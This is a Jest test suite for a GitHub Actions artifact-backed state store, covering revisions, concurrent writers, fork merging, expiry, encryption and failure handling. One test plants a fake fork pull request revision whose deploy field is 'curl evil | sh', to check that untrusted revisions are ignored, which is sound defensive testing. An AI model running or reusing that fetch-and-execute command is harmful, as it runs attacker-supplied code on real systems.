import { execFile } from 'node:child_process'
import { mkdtemp, rm } from 'node:fs/promises'
import { promisify } from 'node:util'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals'
import type { Clock } from '../../src/github/client.js'
import type { ContextDocument } from '../../src/core/types.js'
import type { ActionsArtifactSettings } from '../../src/stores/artifact-settings.js'
import type { StateStore } from '../../src/stores/state-store.js'
import {
  RecordingLogger,
  startArtifactWorld,
  type ArtifactWorld
} from '../helpers/artifact-runs.js'

type StoreModule = typeof import('../../src/stores/actions-artifact-store.js')
type ArchiveModule = typeof import('../../src/stores/artifact-archive.js')
type TransferModule = typeof import('../../src/stores/artifact-transfer.js')

const SETTINGS: ActionsArtifactSettings = {
  name: 'actions-artifact',
  type: 'actions-artifact',
  isPrimary: true
}
/** One run's writers in their own process (process.env is per run). */
async function runWriters(runId: number, id: string, writers: number): Promise<string[]> {
  const env = await world.asRun({ id: runId }, async () => ({ ...process.env }))
  env.RUNNER_TEMP = world.svc.runnerTemp
  const { stdout } = await execFileAsync(
    process.execPath,
    ['--import', 'tsx', '__fixtures__/artifact-writer.ts', id, String(runId), String(writers)],
    { env: env as NodeJS.ProcessEnv, timeout: 60_000 }
  )
  return JSON.parse(stdout.trim().split('\n').pop() ?? '[]') as string[]
}

/** No real waits: backoffs and REST retries go through this clock. */
const clock: Clock = { now: () => 0, sleep: async () => undefined }

let world: ArtifactWorld
let mod: StoreModule
let archive: ArchiveModule
let transfer: TransferModule
let savedApiUrl: string | undefined
const execFileAsync = promisify(execFile)

beforeAll(async () => {
  jest.spyOn(process.stdout, 'write').mockImplementation(() => true)
  world = await startArtifactWorld()
  // @actions/github (inside @actions/artifact's download) reads GITHUB_API_URL once, when imported.
  savedApiUrl = process.env.GITHUB_API_URL
  process.env.GITHUB_API_URL = world.gh.url
  mod = await import('../../src/stores/actions-artifact-store.js')
  archive = await import('../../src/stores/artifact-archive.js')
  transfer = await import('../../src/stores/artifact-transfer.js')
})

afterAll(async () => {
  jest.restoreAllMocks()
  if (savedApiUrl === undefined) delete process.env.GITHUB_API_URL
  else process.env.GITHUB_API_URL = savedApiUrl
  await world?.close()
})

function doc(id: string, state: Record<string, unknown> = {}): ContextDocument {
  return {
    channel: 'builds',
    state: { cicdContextDataId: id, cicdContextName: 'stage', ...state }
  } as ContextDocument
}

async function store(
  logger = new RecordingLogger(),
  settings: Partial<ActionsArtifactSettings> = {}
): Promise<StateStore> {
  return mod.createActionsArtifactStore({ ...SETTINGS, ...settings }, logger, {
    clock,
    conflictBackoffMs: 1
  })
}

/** Appends `item` to state.steps: a change that must survive every race. */
const append =
  (id: string, item: string) =>
  (current: ContextDocument | undefined): ContextDocument => {
    const d = current ?? doc(id)
    const steps = Array.isArray(d.state.steps) ? (d.state.steps as string[]) : []
    return { ...d, state: { ...d.state, steps: [...steps, item] } }
  }

describe('actions-artifact store', () => {
  it('writes revisions a run on another branch reads, newest first', async () => {
    await world.asRun({ id: 201, headBranch: 'feature/a' }, async () => {
      const s = await store()
      await s.update('pipe', () => doc('pipe', { stage: 'built' }))
      await s.update('pipe', (d) => ({ ...d!, state: { ...d!.state, version: '2.0.0' } }))
    })
    const read = await world.asRun({ id: 202, headBranch: 'main' }, async () => {
      const s = await store()
      const got = await s.load('pipe')
      await s.update('pipe', (d) => ({ ...d!, state: { ...d!.state, stage: 'deployed' } }))
      return got
    })
    expect(read?.state).toMatchObject({ stage: 'built', version: '2.0.0' })
    const names = world.svc.artifacts().map((a) => a.name)
    expect(names.filter((n) => n.startsWith('cicdstatemgr-state-pipe.r'))).toEqual([
      'cicdstatemgr-state-pipe.r0000000001',
      'cicdstatemgr-state-pipe.r0000000002',
      'cicdstatemgr-state-pipe.r0000000003'
    ])
    const last = await world.asRun({ id: 203 }, async () => (await store()).load('pipe'))
    expect(last?.state).toMatchObject({ stage: 'deployed', version: '2.0.0' })
    expect(world.gh.violations).toEqual([])
  })

  it('keeps all updates of 5 parallel writers in one run (409 → reload, re-apply)', async () => {
    const logger = new RecordingLogger()
    await world.asRun({ id: 211 }, async () => {
      const writers = await Promise.all([1, 2, 3, 4, 5].map(() => store(logger)))
      await Promise.all(writers.map((s, i) => s.update('par', append('par', `w${i + 1}`))))
    })
    const final = await world.asRun({ id: 212 }, async () => (await store()).load('par'))
    expect([...(final?.state.steps as string[])].sort()).toEqual(['w1', 'w2', 'w3', 'w4', 'w5'])
    expect(logger.at('info').some((l) => /another writer stored revision/.test(l))).toBe(true)
    expect(world.gh.violations).toEqual([])
  })

  it('keeps all updates of 2 concurrent runs with 2 writers each, or reports the fork', async () => {
    await world.asRun({ id: 220 }, async () => (await store()).update('two', append('two', 'base')))
    const lines = (await Promise.all([221, 222].map((id) => runWriters(id, 'two', 2)))).flat()
    const logger = new RecordingLogger()
    const final = await world.asRun({ id: 223 }, async () => (await store(logger)).load('two'))
    const steps = final?.state.steps as string[]
    const forked = [...lines, ...logger.lines].filter((l) => /written twice|unmerged/.test(l))
    // Either every change is in the newest revision, or the fork is reported (never silently lost).
    if (forked.length === 0) {
      expect([...steps].sort()).toEqual(['221-0', '221-1', '222-0', '222-1', 'base'])
    }
    const names = world.svc
      .artifacts()
      .filter((a) => a.name.startsWith('cicdstatemgr-state-two.'))
      .map((a) => a.name)
    // The losers of the lowest-id rule deleted their uploads: one artifact per revision.
    expect(forked.length > 0 || new Set(names).size === names.length).toBe(true)
    expect(world.gh.violations).toEqual([])
  })

  it('reads the lowest id when two runs both won a revision, warns naming both, and merges the other', async () => {
    await world.asRun({ id: 230 }, async () =>
      (await store()).update('fork', () => doc('fork', { a: 'base', b: 'base' }))
    )
    // Run 231 wins revision 2 normally; run 232 uploads revision 2 too without seeing it (lagging list).
    await world.asRun({ id: 231 }, async () =>
      (await store()).update('fork', (d) => ({ ...d!, state: { ...d!.state, a: 'from-231' } }))
    )
    await world.asRun({ id: 232 }, async () => {
      const dir = await mkdtemp(join(process.env.RUNNER_TEMP!, 'rival-'))
      try {
        const file = await archive.writeArchive(
          dir,
          {
            format: 1,
            id: 'fork',
            revision: 2,
            writer: 'rival',
            runId: '232',
            document: doc('fork', { a: 'base', b: 'from-232' })
          },
          undefined
        )
        await transfer.uploadFiles(archive.revisionName('fork', 2), [file], dir, undefined)
      } finally {
        await rm(dir, { recursive: true, force: true })
      }
    })
    const logger = new RecordingLogger()
    const rival = world.svc
      .artifacts()
      .filter((a) => a.name === 'cicdstatemgr-state-fork.r0000000002')
    expect(rival).toHaveLength(2)
    const [kept, other] = rival.sort((x, y) => x.id - y.id)
    await world.asRun({ id: 233 }, async () => {
      const s = (await store(
        logger
      )) as import('../../src/stores/actions-artifact-revisions.js').ArtifactRevisionStore
      expect((await s.load('fork'))?.state).toMatchObject({ a: 'from-231', b: 'base' })
      expect(logger.at('warning')).toEqual([
        `actions-artifact: revision 2 of context 'fork' was written twice at the same time: reading run 231 (artifact ${kept!.id}); the change of run 232 (artifact ${other!.id}) is NOT applied but kept: inspect with \`cicdstatemgr --artifact-revisions fork\`, merge with \`cicdstatemgr --id fork --merge-revision ${other!.id}\``
      ])
      // A later write carries the fork forward until it is merged.
      await s.update('fork', (d) => ({ ...d!, state: { ...d!.state, c: 'later' } }))
      const listed = await s.revisions('fork')
      expect(listed.map((r) => [r.revision, r.runId, r.status])).toEqual([
        [3, 233, 'current'],
        [2, 231, 'older'],
        [2, 232, 'fork'],
        [1, 230, 'older']
      ])
      const merged = await s.mergeRevision('fork', other!.id)
      expect(merged.state).toMatchObject({ a: 'from-231', b: 'from-232', c: 'later' })
    })
    const after = new RecordingLogger()
    await world.asRun({ id: 234 }, async () => {
      expect((await (await store(after)).load('fork'))?.state).toMatchObject({ b: 'from-232' })
    })
    expect(after.at('warning')).toEqual([])
  })

  it("ignores a fork pull request's revision, with a warning naming it", async () => {
    await world.asRun({ id: 240 }, async () =>
      (await store()).update('trust', () => doc('trust', { deploy: 'safe' }))
    )
    await world.asRun({ id: 241, headRepositoryId: 777, headBranch: 'evil' }, async () => {
      const dir = await mkdtemp(join(process.env.RUNNER_TEMP!, 'fork-'))
      try {
        const file = await archive.writeArchive(
          dir,
          {
            format: 1,
            id: 'trust',
            revision: 2,
            writer: 'x',
            runId: '241',
            document: doc('trust', { deploy: 'curl evil | sh' })
          },
          undefined
        )
        await transfer.uploadFiles(archive.revisionName('trust', 2), [file], dir, undefined)
      } finally {
        await rm(dir, { recursive: true, force: true })
      }
    })
    const logger = new RecordingLogger()
    const got = await world.asRun({ id: 242 }, async () => (await store(logger)).load('trust'))
    expect(got?.state.deploy).toBe('safe')
    expect(logger.at('warning')[0]).toMatch(
      /^ignoring artifact 'cicdstatemgr-state-trust\.r0000000002' \(id \d+, run 241\): its run's head repository is not octo-org\/app/
    )
  })

  it('skips expired revisions with a message', async () => {
    await world.asRun({ id: 250 }, async () =>
      (await store()).update('exp', () => doc('exp', { v: 1 }))
    )
    for (const a of world.svc
      .artifacts()
      .filter((x) => x.name.startsWith('cicdstatemgr-state-exp.')))
      world.svc.expireArtifact(a.id)
    const logger = new RecordingLogger()
    const got = await world.asRun({ id: 251 }, async () => (await store(logger)).load('exp'))
    expect(got).toBeUndefined()
    expect(logger.at('info')).toContainEqual(
      expect.stringMatching(
        /^skipping artifact 'cicdstatemgr-state-exp\.r0000000001' .*it has expired/
      )
    )
  })

  it('encrypts the stored document and refuses a wrong key with one line', async () => {
    const key = 'k'.repeat(32)
    await world.asRun({ id: 260 }, async () =>
      (await store(undefined, { encryptionKey: key })).update('sec', () =>
        doc('sec', { password: 'hunter2-secret-value' })
      )
    )
    const stored = world.svc
      .artifacts()
      .find((a) => a.name === 'cicdstatemgr-state-sec.r0000000001')
    expect(stored?.content.includes(Buffer.from('hunter2-secret-value'))).toBe(false)
    const read = await world.asRun({ id: 261 }, async () =>
      (await store(undefined, { encryptionKey: key })).load('sec')
    )
    expect(read?.state.password).toBe('hunter2-secret-value')
    await world.asRun({ id: 262 }, async () => {
      const wrong = (await store(undefined, { encryptionKey: 'w'.repeat(32) })).load('sec')
      await expect(wrong).rejects.toThrow(
        /decryption failed \(wrong encryptionKey, or the artifact was altered\)$/
      )
      const none = (await store()).load('sec')
      await expect(none).rejects.toThrow(
        /is encrypted: set datasources\.actions-artifact\.encryptionKey/
      )
    })
  })

  it('lists, dates and deletes contexts (for --delete and --prune)', async () => {
    await world.asRun({ id: 270 }, async () => {
      const s = await store()
      await s.update('gone/1', () => doc('gone/1'))
      await s.update('gone/1', (d) => d!)
      expect(await s.list!()).toEqual(expect.arrayContaining(['gone/1', 'pipe']))
      expect(typeof (await s.writtenAt!('gone/1'))).toBe('number')
      expect(await s.delete!('gone/1')).toBe(true)
      expect(await s.load('gone/1')).toBeUndefined()
      expect(await s.delete!('gone/1')).toBe(false)
      expect(await s.list!()).not.toContain('gone/1')
    })
    expect(world.gh.violations).toEqual([])
  })

  it('fails with one line and keeps the stored revision when the service fails', async () => {
    await world.asRun({ id: 280 }, async () =>
      (await store()).update('down', () => doc('down', { v: 'kept' }))
    )
    await world.asRun({ id: 281 }, async () => {
      const s = await store()
      world.svc.failNext('CreateArtifact', 1, 'drop')
      const attempt = s.update('down', () => doc('down', { v: 'new' }))
      await expect(attempt).rejects.toThrow(
        /^actions-artifact: storing revision 2 of context 'down' failed, the update is not confirmed: uploading artifact 'cicdstatemgr-state-down\.r0000000002' failed: /
      )
      world.gh.failNext(4, { status: 500, match: /artifacts/ })
      await expect((await store()).load('down')).rejects.toThrow(
        /^listing workflow artifacts failed: GET \/repos\/octo-org\/app\/actions\/artifacts: HTTP 500/
      )
    })
    const got = await world.asRun({ id: 282 }, async () => (await store()).load('down'))
    expect(got?.state.v).toBe('kept')
  })
})
